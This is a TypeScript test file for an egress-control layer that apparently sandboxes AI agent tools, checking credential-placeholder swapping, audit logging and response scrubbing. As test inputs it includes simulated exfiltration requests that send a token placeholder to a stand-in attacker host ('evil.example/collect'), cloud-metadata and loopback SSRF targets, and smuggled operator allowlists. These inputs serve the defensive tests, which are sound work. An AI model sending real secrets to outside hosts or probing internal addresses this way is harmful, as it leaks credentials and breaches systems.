/**
 * The container path's egress decision. Containers are disabled under the vitest plugin, so
 * the decision (decideOutbound) and the outbound handler (toolEgressHandler) are called
 * directly with Request objects, inside workerd, with the real vault and audit log.
 */
import { env } from 'cloudflare:workers';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Env } from '../../src/env';
import { decideOutbound, OUTBOUND_MAX_BODY_BYTES, toolEgressHandler, type OutboundPolicy } from '../../src/tools';
import { secretForms } from '../../src/vault';
import { asSession, login, OWNER, setupInstance } from './identity-helpers';

const PLACEHOLDER = 'PORTCULLIS_PLACEHOLDER_00112233445566778899aabbccddeeff';
const VALUE = 'ghp_realOutboundSecret0123456789abcdef';
const POLICY: OutboundPolicy = {
  egress: {
    allow: [
      { host: 'api.github.com', port: 443 },
      { host: 'rebind.example', port: 443 },
      { host: 'uploads.example', port: 443 },
      { host: '10.1.2.3', port: 8443 },
    ],
    operatorAllow: [{ host: '10.1.2.3', port: 8443 }],
    blockPrivate: true,
  },
  credentials: [{ name: 'GITHUB_TOKEN', placeholder: PLACEHOLDER, hosts: ['api.github.com'] }],
};
const ADDRESSES: Record<string, string[]> = {
  'api.github.com': ['140.82.112.6'],
  'rebind.example': ['127.0.0.1'],
  'uploads.example': ['93.184.215.15', '10.0.0.7'],
  'evil.example': ['93.184.215.14'],
};
const deps = {
  resolve: async (host: string) => ADDRESSES[host] ?? [],
  reveal: async (name: string) => (name === 'GITHUB_TOKEN' ? VALUE : null),
};
const basic = (text: string) => `Basic ${btoa(text)}`;

describe('decideOutbound: numbered precedence ending in deny', () => {
  it.each([
    ['plain http to an allowlisted host', new Request('http://api.github.com/'), { allow: false, rule: 1, reason: 'not-https' }],
    ['HTTPS to a declared host:port', new Request('https://api.github.com/repos'), { allow: true, rule: 4, egressRule: 6 }],
    [
      'a declared host on another port',
      new Request('https://api.github.com:8443/'),
      { allow: false, rule: 5, egressRule: 7, reason: 'port-not-allowed' },
    ],
    ['an undeclared host', new Request('https://evil.example/'), { allow: false, rule: 5, egressRule: 8, reason: 'not-allowlisted' }],
    ['a private IPv4 literal', new Request('https://10.0.0.1/'), { allow: false, rule: 5, egressRule: 3, reason: 'ip-literal-private' }],
    ['the metadata address', new Request('https://169.254.169.254/latest'), { allow: false, rule: 5, egressRule: 3 }],
    ['an IPv4-mapped loopback', new Request('https://[::ffff:127.0.0.1]/'), { allow: false, rule: 5, egressRule: 3 }],
    [
      'a declared name resolving to loopback',
      new Request('https://rebind.example/'),
      { allow: false, rule: 5, egressRule: 4, reason: 'resolves-private' },
    ],
    [
      'a declared name with one private address among public ones',
      new Request('https://uploads.example/'),
      { allow: false, rule: 5, egressRule: 4 },
    ],
    ['localhost', new Request('https://localhost/'), { allow: false, rule: 5 }],
    ['a name that resolves to nothing', new Request('https://nowhere.example/'), { allow: false, rule: 5 }],
    ['an operator-opened private destination', new Request('https://10.1.2.3:8443/'), { allow: true, rule: 4, egressRule: 2 }],
    [
      'a placeholder in a header to a foreign host',
      new Request('https://evil.example/', { headers: { authorization: `Bearer ${PLACEHOLDER}` } }),
      { allow: false, rule: 3, reason: 'placeholder-foreign-host' },
    ],
    ['a placeholder in the query to a foreign host', new Request(`https://evil.example/?t=${PLACEHOLDER}`), { allow: false, rule: 3 }],
    [
      'a placeholder in the body to a foreign host',
      new Request('https://evil.example/', { method: 'POST', body: `token=${PLACEHOLDER}` }),
      { allow: false, rule: 3 },
    ],
    [
      'a placeholder inside Basic credentials to a foreign host',
      new Request('https://evil.example/', { headers: { authorization: basic(`x:${PLACEHOLDER}`) } }),
      { allow: false, rule: 3 },
    ],
    [
      'a placeholder to an allowlisted but unbound host',
      new Request('https://uploads.example/', { headers: { 'x-token': PLACEHOLDER } }),
      { allow: false, rule: 3 },
    ],
    [
      'a placeholder over plain http to the bound host',
      new Request('http://api.github.com/', { headers: { authorization: `Bearer ${PLACEHOLDER}` } }),
      { allow: false, rule: 1 },
    ],
    [
      'a body too large to inspect',
      new Request('https://api.github.com/', { method: 'POST', body: 'x'.repeat(OUTBOUND_MAX_BODY_BYTES + 1) }),
      { allow: false, rule: 2, reason: 'body-uninspectable' },
    ],
  ])('%s', async (_label, request, expected) => {
    expect(await decideOutbound(request, POLICY, deps)).toMatchObject(expected);
  });

  it('swaps a placeholder only in Authorization (Basic decoded) of a request to its bound host; URL, body and other headers keep the placeholder', async () => {
    const request = new Request(`https://api.github.com/user?access=${PLACEHOLDER}`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${PLACEHOLDER}`,
        'proxy-authorization': basic(`user:${PLACEHOLDER}`),
        'x-api-key': PLACEHOLDER,
        'content-type': 'application/json',
      },
      body: JSON.stringify({ token: PLACEHOLDER }),
    });
    const decision = await decideOutbound(request, POLICY, deps);
    if (!decision.allow) throw new Error('expected allow');
    expect(decision.swapped).toEqual(['GITHUB_TOKEN']);
    const forward = decision.forward;
    expect(forward.url).toBe(`https://api.github.com/user?access=${PLACEHOLDER}`);
    expect(forward.headers.get('authorization')).toBe(`Bearer ${VALUE}`);
    expect(atob((forward.headers.get('proxy-authorization') ?? '').slice(6))).toBe(`user:${PLACEHOLDER}`);
    expect(forward.headers.get('x-api-key')).toBe(PLACEHOLDER);
    expect(await forward.text()).toBe(JSON.stringify({ token: PLACEHOLDER }));
  });

  it('swaps inside Basic credentials of Authorization (curl -u)', async () => {
    const decision = await decideOutbound(
      new Request('https://api.github.com/', { headers: { authorization: basic(`bot:${PLACEHOLDER}`) } }),
      POLICY,
      deps,
    );
    if (!decision.allow) throw new Error('expected allow');
    expect(atob((decision.forward.headers.get('authorization') ?? '').slice(6))).toBe(`bot:${VALUE}`);
  });

  it.each([
    ['another virtual host', 'intranet.example'],
    ['the same host on another port', 'api.github.com:8443'],
    ['garbage', 'a b'],
  ])('refuses a Host header naming %s (rule 1), before any credential is opened', async (_label, hostHeader) => {
    let revealed = 0;
    const request = new Request('https://api.github.com/', { headers: { host: hostHeader, authorization: `Bearer ${PLACEHOLDER}` } });
    expect(
      await decideOutbound(request, POLICY, {
        ...deps,
        reveal: async (name) => {
          revealed++;
          return deps.reveal(name);
        },
      }),
    ).toMatchObject({ allow: false, rule: 1, reason: 'host-mismatch' });
    expect(revealed).toBe(0);
  });

  it('an operator allowance opens nothing for a tool that does not declare that destination', async () => {
    const undeclared: OutboundPolicy = {
      ...POLICY,
      egress: {
        ...POLICY.egress,
        allow: [
          { host: 'api.github.com', port: 443 },
          { host: '*', port: 8443 },
        ],
      },
    };
    expect(await decideOutbound(new Request('https://10.1.2.3:8443/'), undeclared, deps)).toMatchObject({
      allow: false,
      rule: 5,
      egressRule: 3,
      reason: 'ip-literal-private',
    });
  });

  it('refuses when the bound credential can no longer be opened', async () => {
    const request = new Request('https://api.github.com/', { headers: { authorization: `Bearer ${PLACEHOLDER}` } });
    expect(await decideOutbound(request, POLICY, { ...deps, reveal: async () => null })).toMatchObject({
      allow: false,
      rule: 3,
      reason: 'credential-unavailable',
    });
  });
});

describe('toolEgressHandler (the ToolSandbox outbound handler)', () => {
  let workspaceId: string;
  beforeAll(async () => {
    ({ workspaceId } = await setupInstance('Egress'));
    const owner = await login(OWNER.email, OWNER.password);
    expect(
      (
        await asSession(owner, '/api/v1/credentials/GITHUB_TOKEN', {
          method: 'PUT',
          body: { value: VALUE, allowedHosts: ['api.github.com'] },
        })
      ).status,
    ).toBeLessThan(300);
  });

  function upstream() {
    const sent: Request[] = [];
    const fetchFn = (async (input: RequestInfo | URL, init?: RequestInit) => {
      const request = new Request(input, init);
      const url = new URL(request.url);
      if (url.hostname === 'cloudflare-dns.com') {
        const name = url.searchParams.get('name') ?? '';
        const type = url.searchParams.get('type');
        const answers = type === 'A' ? (ADDRESSES[name] ?? []).map((data) => ({ type: 1, data })) : [];
        return Response.json({ Status: 0, Answer: answers });
      }
      sent.push(request);
      // /echo answers with what it received, like an echo API (the swapped Authorization too).
      if (url.pathname === '/echo')
        return new Response(`${request.headers.get('authorization')} ${btoa(request.headers.get('authorization') ?? '')}`, {
          headers: { 'x-echo': request.headers.get('authorization') ?? '' },
        });
      if (url.pathname === '/gzip') return new Response('compressed', { headers: { 'content-encoding': 'gzip' } });
      return new Response('upstream ok');
    }) as typeof fetch;
    return { sent, fetchFn };
  }

  const params = () => ({
    workspaceId,
    agentId: 'agt_test',
    tool: 'gh',
    allow: [{ host: 'api.github.com', port: 443 }],
    credentials: [{ name: 'GITHUB_TOKEN', placeholder: PLACEHOLDER, hosts: ['api.github.com'] }],
  });
  const ctx = (p: unknown) => ({ containerId: 'c1', className: 'ToolSandbox', params: p }) as Parameters<typeof toolEgressHandler>[2];

  async function egressEvents(): Promise<Array<{ data: string }>> {
    const rows = await env.DB.prepare("SELECT data FROM audit_events WHERE workspace_id = ? AND kind = 'tool.egress' ORDER BY seq")
      .bind(workspaceId)
      .all<{ data: string }>();
    return rows.results;
  }

  it('forwards an allowed request with the real value swapped in, and audits host and port only', async () => {
    const { sent, fetchFn } = upstream();
    const res = await toolEgressHandler(
      new Request('https://api.github.com/secret-path?q=1', { headers: { authorization: `Bearer ${PLACEHOLDER}` } }),
      env as Env,
      ctx(params()),
      fetchFn,
    );
    expect(await res.text()).toBe('upstream ok');
    expect(sent).toHaveLength(1);
    expect(sent[0]!.headers.get('authorization')).toBe(`Bearer ${VALUE}`);
    const events = await egressEvents();
    const last = JSON.parse(events.at(-1)!.data) as Record<string, unknown>;
    expect(last).toMatchObject({ host: 'api.github.com', port: 443, allow: true, rule: 4, swapped: ['GITHUB_TOKEN'], invocationId: null });
    const text = JSON.stringify(events);
    expect(text).not.toContain('secret-path');
    expect(text).not.toContain(VALUE);
    expect(text).not.toContain(PLACEHOLDER);
  });

  it('scrubs the real value, in every form redaction knows, from what the bound host sends back', async () => {
    const { sent, fetchFn } = upstream();
    const res = await toolEgressHandler(
      new Request('https://api.github.com/echo', { headers: { authorization: `Bearer ${PLACEHOLDER}` } }),
      env as Env,
      ctx(params()),
      fetchFn,
    );
    expect(sent[0]!.headers.get('authorization')).toBe(`Bearer ${VALUE}`);
    const seen = `${JSON.stringify([...res.headers])}${await res.text()}`;
    expect(seen).toContain('[REDACTED]');
    for (const form of secretForms(VALUE)) expect(seen).not.toContain(form);
  });

  it('refuses an answer from a bound host in a content coding it cannot scrub', async () => {
    const { fetchFn } = upstream();
    const res = await toolEgressHandler(
      new Request('https://api.github.com/gzip', { headers: { authorization: `Bearer ${PLACEHOLDER}` } }),
      env as Env,
      ctx(params()),
      fetchFn,
    );
    expect(res.status).toBe(502);
    expect(await res.text()).not.toContain('compressed');
  });

  it('refuses and audits a placeholder sent to another host; nothing is sent', async () => {
    const { sent, fetchFn } = upstream();
    const res = await toolEgressHandler(
      new Request('https://evil.example/collect', { method: 'POST', body: PLACEHOLDER }),
      env as Env,
      ctx(params()),
      fetchFn,
    );
    expect(res.status).toBe(403);
    expect(sent).toEqual([]);
    expect(JSON.parse((await egressEvents()).at(-1)!.data)).toMatchObject({
      host: 'evil.example',
      allow: false,
      rule: 3,
      reason: 'placeholder-foreign-host',
    });
  });

  it.each([
    ['no params', undefined],
    [
      'an operator allowlist smuggled in',
      { ...{ workspaceId: 'w', agentId: 'a', tool: 't', allow: [], credentials: [] }, operatorAllow: [{ host: '10.0.0.1', port: 443 }] },
    ],
    ['a bad port', { workspaceId: 'w', agentId: 'a', tool: 't', allow: [{ host: 'x.example', port: 0 }], credentials: [] }],
  ])('refuses everything when the handler params are malformed (%s)', async (_label, p) => {
    const { sent, fetchFn } = upstream();
    const res = await toolEgressHandler(new Request('https://api.github.com/'), env as Env, ctx(p), fetchFn);
    expect(res.status).toBe(403);
    expect(sent).toEqual([]);
  });
});
